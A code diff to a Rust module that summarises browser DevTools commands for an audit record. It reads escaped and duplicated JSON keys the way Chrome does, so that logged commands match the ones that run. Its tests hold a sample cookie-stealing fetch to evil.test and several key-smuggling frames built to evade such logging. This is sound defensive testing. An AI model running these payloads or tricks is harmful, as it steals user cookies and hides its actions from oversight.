@@ -2,7 +2,16 @@
 //! CDP command or an agent's call. Everything not named here stays out.
 //! Nothing typed is kept (only its length), nor cookie values, nor a
 //! dialog's prompt text, nor file contents (only file names).
+//!
+//! A command is read as what runs it reads it: Chrome (and the extension's
+//! `JSON.parse`) unescapes keys (`"\u0065xpression"` is `expression`) and
+//! takes the last of a key given twice; a managed browser's pipe reads a
+//! frame's top-level members that way before it sends the frame on. So
+//! what the record says ran is what ran.
 
+use std::collections::BTreeMap;
+
+use serde_json::value::RawValue;
 use serde_json::{Map, Value};
 
 use crate::Kind;
@@ -16,11 +25,9 @@ const TEXT_KEPT: usize = 160;
 pub fn cdp_command(method: &str, params: Option<&str>) -> Option<(Kind, String)> {
     let kind = cdp_kind(method)?;
     if kind == Kind::Evaluation {
-        // A framework's scripts run to hundreds of KiB: only the start of
-        // the code is read, from the raw JSON, never the whole of it.
         let (verb, key) =
             if method == "Runtime.evaluate" { ("evaluate", "expression") } else { ("call", "functionDeclaration") };
-        let code = params.and_then(|p| string_start(p, key, TEXT_KEPT + 1)).unwrap_or_default();
+        let code = params.and_then(|p| code_start(p, key)).unwrap_or_default();
         return Some((kind, format!("{verb}: {}", cut(&code))));
     }
     let params: Map<String, Value> = params.and_then(|p| serde_json::from_str(p).ok()).unwrap_or_default();
@@ -104,21 +111,21 @@ fn cdp_kind(method: &str) -> Option<Kind> {
 }
 
 /// A CDP frame as it goes to a managed browser's pipe (not parsed by the
-/// relay): its method is found first, and only a recorded one is parsed.
+/// relay), read as the pipe reads it before it sends it on: its top-level
+/// members, keys unescaped, the last of a repeated one (`BTreeMap<String,
+/// RawValue>` in `managed-driver`'s `pipe.rs`). So `"\u006dethod"` or a
+/// second `"method"` cannot run one command while the record reads
+/// another.
 pub fn cdp_frame(frame: &str) -> Option<(Kind, String)> {
-    let method = method_of(frame)?;
-    if cdp_kind(method)? == Kind::Evaluation {
-        // The code's start is read from the frame's text as from its
-        // params': a framework's 300 KiB script is not parsed here either.
-        return cdp_command(method, Some(frame));
+    // What the record leaves out costs a string match or two: in a frame
+    // with no escape and one `"method"`, that one is the method the pipe
+    // reads.
+    if !frame.contains('\\') && frame.matches("\"method\"").nth(1).is_none() {
+        cdp_kind(method_of(frame)?)?;
     }
-    #[derive(serde::Deserialize)]
-    struct Frame<'a> {
-        #[serde(borrow, default)]
-        params: Option<&'a serde_json::value::RawValue>,
-    }
-    let parsed: Frame<'_> = serde_json::from_str(frame).ok()?;
-    cdp_command(method, parsed.params.map(serde_json::value::RawValue::get))
+    let members: BTreeMap<String, &RawValue> = serde_json::from_str(frame).ok()?;
+    let method: String = serde_json::from_str(members.get("method")?.get()).ok()?;
+    cdp_command(&method, members.get("params").map(|params| params.get()))
 }
 
 /// The value of the frame's first `"method"` key, without parsing it.
@@ -128,28 +135,49 @@ fn method_of(frame: &str) -> Option<&str> {
     rest.split_once('"').map(|(method, _)| method)
 }
 
-/// The first `max` characters of the string under `"key"` in a JSON
-/// object's text, unescaped, read without parsing the rest (a key of that
-/// name inside a nested value may be taken for it: this is for a summary).
-fn string_start(json: &str, key: &str, max: usize) -> Option<String> {
-    let quoted = format!("\"{key}\"");
-    let at = json.find(&quoted)? + quoted.len();
-    let rest = json[at..].trim_start().strip_prefix(':')?.trim_start().strip_prefix('"')?;
+/// The start of the code under `key` in a command's params, the key as
+/// Chrome reads it (unescaped, the last of a repeated one). A framework's
+/// scripts run to hundreds of KiB: the params are checked, not copied, and
+/// only the start of the code is unescaped.
+fn code_start(params: &str, key: &str) -> Option<String> {
+    let members: BTreeMap<String, &RawValue> = serde_json::from_str(params).ok()?;
+    string_start(members.get(key)?.get(), TEXT_KEPT + 1)
+}
+
+/// The first `max` characters of a JSON string (its text, quotes and
+/// all), unescaped; `None` for a value that is not a string.
+fn string_start(literal: &str, max: usize) -> Option<String> {
+    let mut chars = literal.strip_prefix('"')?.chars();
     let mut out = String::new();
-    let mut chars = rest.chars();
-    while out.chars().count() < max {
-        match chars.next()? {
+    for _ in 0..max {
+        let c = match chars.next()? {
             '"' => break,
             '\\' => match chars.next()? {
-                'n' | 't' | 'r' => out.push(' '),
+                'n' | 't' | 'r' | 'b' | 'f' => ' ',
                 'u' => {
-                    let hex: String = chars.by_ref().take(4).collect();
-                    out.push(u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32).unwrap_or('?'));
+                    let unit = |chars: &mut std::str::Chars<'_>| {
+                        u32::from_str_radix(&chars.by_ref().take(4).collect::<String>(), 16).ok()
+                    };
+                    match unit(&mut chars)? {
+                        high @ 0xD800..=0xDBFF => {
+                            let rest = chars.as_str();
+                            let low = rest.strip_prefix("\\u").and_then(|r| u32::from_str_radix(r.get(..4)?, 16).ok());
+                            match low {
+                                Some(low @ 0xDC00..=0xDFFF) => {
+                                    chars.nth(5);
+                                    char::from_u32(0x10000 + ((high - 0xD800) << 10) + (low - 0xDC00)).unwrap_or('?')
+                                }
+                                _ => '?',
+                            }
+                        }
+                        unit => char::from_u32(unit).unwrap_or('?'),
+                    }
                 }
-                other => out.push(other),
+                other => other,
             },
-            c => out.push(c),
-        }
+            c => c,
+        };
+        out.push(c);
     }
     Some(out)
 }
@@ -239,10 +267,10 @@ pub fn agent_call(method: &str, path: &str, body: &Value) -> Option<(Kind, Strin
 
 /// `POST /act`: its kind and target, with typed text as its length.
 fn act(body: &Value) -> (Kind, String) {
-    let kind = body.get("kind").and_then(Value::as_str).unwrap_or("act");
-    let element = body.get("ref").and_then(Value::as_str).map(|r| format!(" {r}")).unwrap_or_default();
+    let kind = cut(body.get("kind").and_then(Value::as_str).unwrap_or("act"));
+    let element = body.get("ref").and_then(Value::as_str).map(|r| format!(" {}", cut(r))).unwrap_or_default();
     let text = |key: &str| body.get(key).and_then(Value::as_str).unwrap_or_default();
-    match kind {
+    match kind.as_str() {
         "evaluate" => {
             let code = ["function", "expression"].iter().map(|k| text(k)).find(|t| !t.is_empty()).unwrap_or("");
             (Kind::Evaluation, format!("evaluate{element}: {}", cut(code)))
@@ -255,7 +283,7 @@ fn act(body: &Value) -> (Kind, String) {
         "press" => (Kind::Input, format!("press {}", cut(text("key")))),
         "select" => (Kind::Input, format!("select in{element}")),
         "close" => (Kind::Tab, "close the tab".into()),
-        other => (Kind::Input, format!("{other}{element}")),
+        _ => (Kind::Input, format!("{kind}{element}")),
     }
 }
 
@@ -378,10 +406,66 @@ mod tests {
     #[test]
     fn code_is_read_from_the_start_of_its_string() {
         let params = json!({"expression": "document.title = \"a\\b\"\n + 'é'", "returnByValue": true}).to_string();
-        assert_eq!(string_start(&params, "expression", 100).as_deref(), Some("document.title = \"a\\b\"  + 'é'"));
-        assert_eq!(string_start(r#"{"expression": "\u00e9x"}"#, "expression", 100).as_deref(), Some("éx"));
-        assert_eq!(string_start(r#"{"expression": "abcdef"}"#, "expression", 3).as_deref(), Some("abc"));
-        assert_eq!(string_start(r#"{"other": 1}"#, "expression", 3), None);
+        assert_eq!(code_start(&params, "expression").as_deref(), Some("document.title = \"a\\b\"  + 'é'"));
+        assert_eq!(code_start(r#"{"expression": "\u00e9x\ud83d\ude00!"}"#, "expression").as_deref(), Some("éx😀!"));
+        assert_eq!(string_start(r#""abcdef""#, 3).as_deref(), Some("abc"));
+        assert_eq!(code_start(r#"{"other": 1}"#, "expression"), None);
+        assert_eq!(code_start(r#"{"expression": 1}"#, "expression"), None);
+    }
+
+    /// Issue 46, item 4: the summary read the first `"expression"` in the
+    /// text, while Chrome runs the key it unescapes, and the last of a
+    /// repeated one (checked against Chromium: `{"expression":"'first'",
+    /// "expression":"'last'"}` evaluates `'last'`).
+    #[test]
+    fn an_escaped_or_repeated_key_cannot_hide_the_code_that_runs() {
+        let steal = "fetch('https://evil.test/?c=' + document.cookie)";
+        let summary = format!("evaluate: {steal}");
+        for params in [
+            format!(r#"{{"\u0065xpression":"{steal}"}}"#),
+            format!(r#"{{"expression":"1","expression":"{steal}"}}"#),
+            format!(
+                r#"{{"serializationOptions":{{"additionalParameters":{{"expression":"1"}}}},"expression":"{steal}"}}"#
+            ),
+        ] {
+            assert_eq!(
+                cdp_command("Runtime.evaluate", Some(&params)),
+                Some((Kind::Evaluation, summary.clone())),
+                "{params}"
+            );
+        }
+        let call = format!(r#"{{"functionDeclaration":"() => 1","functionDeclar\u0061tion":"() => {steal}"}}"#);
+        assert_eq!(cdp_command("Runtime.callFunctionOn", Some(&call)).unwrap().1, format!("call: () => {steal}"));
+        // Other params are read as Chrome reads them too.
+        let navigate = r#"{"url":"https://example.test/","\u0075rl":"https://evil.test/"}"#;
+        assert_eq!(cdp_command("Page.navigate", Some(navigate)).unwrap().1, "navigate to https://evil.test/");
+    }
+
+    /// Issue 46, item 4: a managed browser's pipe reads a frame's members
+    /// unescaped and keeps the last of a repeated one before it sends the
+    /// frame on; the summary read the first `"method"` in the text.
+    #[test]
+    fn a_piped_frame_is_read_as_the_pipe_reads_it() {
+        let steal = "fetch('https://evil.test/?c=' + document.cookie)";
+        let evaluation = Some((Kind::Evaluation, format!("evaluate: {steal}")));
+        for frame in [
+            format!(
+                r#"{{"id":1,"method":"DOM.getDocument","method":"Runtime.evaluate","params":{{"expression":"{steal}"}}}}"#
+            ),
+            format!(r#"{{"id":1,"\u006dethod":"Runtime.evaluate","params":{{"expression":"{steal}"}}}}"#),
+            format!(r#"{{"id":1,"method":"Runtime.\u0065valuate","params":{{"expression":"{steal}"}}}}"#),
+            format!(
+                r#"{{"id":1,"params":{{"method":"DOM.getDocument","expression":"{steal}"}},"method":"Runtime.evaluate"}}"#
+            ),
+            format!(r#"{{"id":1,"method":"Runtime.evaluate","params":{{"\u0065xpression":"{steal}"}}}}"#),
+            format!(
+                r#"{{"id":1,"method":"Runtime.evaluate","params":{{"expression":"1"}},"params":{{"expression":"{steal}"}}}}"#
+            ),
+        ] {
+            assert_eq!(cdp_frame(&frame), evaluation, "{frame}");
+        }
+        // A frame whose last method is a read stays out.
+        assert_eq!(cdp_frame(r#"{"id":1,"method":"Runtime.evaluate","method":"DOM.getDocument"}"#), None);
     }
 
     #[test]
